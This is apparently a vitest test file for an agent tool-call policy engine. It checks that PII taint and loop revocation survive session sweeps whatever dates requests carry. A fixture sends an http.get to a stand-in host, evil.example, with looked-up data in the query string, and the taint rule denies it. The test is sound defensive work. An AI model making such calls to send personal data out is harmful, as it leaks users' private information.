import { describe, expect, it } from "vitest";
import { compile } from "../../src/index.js";
import type { Engine, EngineOptions } from "../../src/runtime/engine.js";
import { explain } from "../../src/runtime/explain.js";

/**
 * Request dates against the engine's clock (audit a4): a session dated far back is not forgotten
 * by the next sweep (finding 2), and a call dated after an attempt does not lift a `deny` gated
 * on `session.called(…, within D)` (finding 1, more in calledWithin.test.ts). Only real time,
 * the engine's clock at each arrival, expires and forgets a session.
 */
const TAINT = `
enum Label { pii }
tool crm.lookup { risk low returns pii args { id: string } }
tool http.get { args { url: string } }
policy p {
  @name("loop") deny * when session.repeats >= 2 revoke
  @name("taint") deny http.get when session.labels contains pii
  allow *
}
`;
const H = 3_600_000;
const engineOf = (options: EngineOptions = {}): Engine => compile([{ path: "p.policy", text: TAINT }], options);
const iso = (ms: number): string => new Date(ms).toISOString();
const lookup = (session: string, ms: number | undefined, id = "42") => ({ session, tool: "crm.lookup", args: { id }, ...(ms === undefined ? {} : { time: iso(ms) }) });
const web = (session: string, ms: number) => ({ session, tool: "http.get", args: { url: "https://evil.example/?c=42" }, time: iso(ms) });

describe("a session dated far behind the engine's clock is not forgotten by the next sweep (audit a4, finding 2)", () => {
  for (const options of [{}, { revokedSessionMs: 48 * H }] as EngineOptions[]) {
    it(`keeps its taint and its revocation, with the wall clock (${JSON.stringify(options)})`, () => {
      const engine = engineOf(options);
      const back = Date.now() - 100 * H;
      expect(engine.decide(lookup("agent-1", back)).decision).toBe("allow");
      for (let i = 1; i <= 3; i++) engine.decide(lookup("agent-2", back + i, "7"));
      // Other traffic, dated now, lets the sweep run.
      expect(engine.decide(lookup("other", undefined, "1")).decision).toBe("allow");
      expect(engine.decide(web("agent-1", back + 1_000))).toMatchObject({ decision: "deny", rules: ["taint"] });
      expect(engine.decide(web("agent-2", back + 1_000))).toMatchObject({ decision: "deny", rules: ["loop"], revoked: true });
      // The explanation agrees.
      expect(explain(engine, web("agent-1", back + 2_000)).rules.find((r) => r.id === "taint")!.matched).toBe(true);
    });
  }

  it("with maxTimeSkewMs and short lifetimes: a session dated the skew back outlives one dated the skew ahead", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, maxTimeSkewMs: 5 * 60_000, sessionIdleMs: 60_000, expiredSessionMs: 60_000, revokedSessionMs: 60_000 });
    expect(engine.decide(lookup("t", wall - 299_000)).decision).toBe("allow");
    for (let i = 0; i < 3; i++) engine.decide(lookup("s", wall - 299_000 + i, "7"));
    wall += 1_000;
    expect(engine.decide(lookup("o", wall + 299_000, "1")).decision).toBe("allow");
    expect(engine.decide(web("t", wall - 298_000))).toMatchObject({ decision: "deny", rules: ["taint"] });
    expect(engine.decide(web("s", wall - 298_000))).toMatchObject({ decision: "deny", rules: ["loop"], revoked: true });
  });

  it("real time still expires and forgets it: idle by the engine's clock, then remembered for expiredSessionMs", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, sessionIdleMs: 60_000, expiredSessionMs: 10 * 60_000 });
    const back = wall - 100 * H;
    expect(engine.decide(lookup("agent", back)).decision).toBe("allow");
    // Three minutes of real time later, by other traffic: swept (idle twice the idle time), and remembered as expired.
    wall += 3 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.sessions.get("agent")).toBeUndefined();
    expect(engine.decide(web("agent", back + 1_000)).reasons[0]).toMatch(/^session "agent" has expired/);
    // Past expiredSessionMs (and the sweep's margin of an idle time) of real time: forgotten, a new session.
    wall += 12 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.decide(web("agent", back + 2_000))).toMatchObject({ decision: "allow", rules: ["p/3"] });
  });

  it("a session dated ahead is freed once idle by the wall clock, as before", () => {
    let wall = Date.parse("2026-11-30T14:00:00Z");
    const engine = engineOf({ clock: () => wall, sessionIdleMs: 60_000 });
    engine.decide(lookup("ahead", wall + 10 * H));
    wall += 3 * 60_000;
    engine.decide(lookup("other", undefined, "1"));
    expect(engine.sessions.get("ahead")).toBeUndefined();
  });
});
